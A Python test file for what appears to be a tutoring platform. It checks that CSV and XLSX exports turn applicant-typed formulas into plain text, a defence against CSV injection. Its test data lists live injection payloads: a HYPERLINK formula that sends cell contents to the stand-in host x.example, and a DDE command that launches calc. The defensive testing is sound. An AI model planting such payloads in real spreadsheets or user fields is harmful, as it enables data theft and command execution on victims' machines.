"""Exports neutralise formulas: text an anonymous applicant typed never runs in an admin's
spreadsheet (issue 15, finding 2; OWASP "CSV Injection")."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from .test_tutor_review import application

PERIOD = {"from": "2026-11-02", "to": "2026-11-09"}
EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)",
        "\t=1+1", "\r=1+1"]


async def test_formulas_in_user_text_become_plain_text_in_csv_and_xlsx(client, factory):  # type: ignore[no-untyped-def]
    org = await factory.org()
    for i, name in enumerate(EVIL):
        r = await client.post("/api/tutors/applications",
                              json=application(org.schools[0].code, real_name=name))
        assert r.status_code == 201, r.text
    admin = await factory.sign_in(await factory.user("city_admin", org))

    r = await client.get("/api/stats/tutors", headers=admin, params={**PERIOD, "format": "csv"})
    assert r.status_code == 200
    names = [row[1] for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))][1:]
    assert sorted(names) == sorted("'" + n for n in EVIL)  # shown as typed, behind the quote that makes it text

    r = await client.get("/api/stats/tutors", headers=admin, params={**PERIOD, "format": "xlsx"})
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [row[1] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells), [(c.value, c.data_type) for c in cells]
    # (XML reads a stored carriage return back as a line feed.)
    assert sorted(c.value for c in cells) == sorted("'" + n.replace("\r", "\n") for n in EVIL)
    # Figures stay numbers.
    assert all(row[3].data_type == "n" for row in ws.iter_rows(min_row=2))


async def test_a_name_excel_forbids_in_a_sheet_title_still_exports(client, factory):  # type: ignore[no-untyped-def]
    org = await factory.org()
    r = await client.post("/api/tutors/applications",
                          json=application(org.schools[0].code, real_name='王/老师[1]?"'))
    admin = await factory.sign_in(await factory.user("city_admin", org))
    r = await client.get("/api/stats/archive", headers=admin,
                         params={**PERIOD, "tutor_id": r.json()["tutor_id"], "format": "xlsx"})
    assert r.status_code == 200
    assert load_workbook(io.BytesIO(r.content)).active.title.startswith("archive_王_老师_1__")
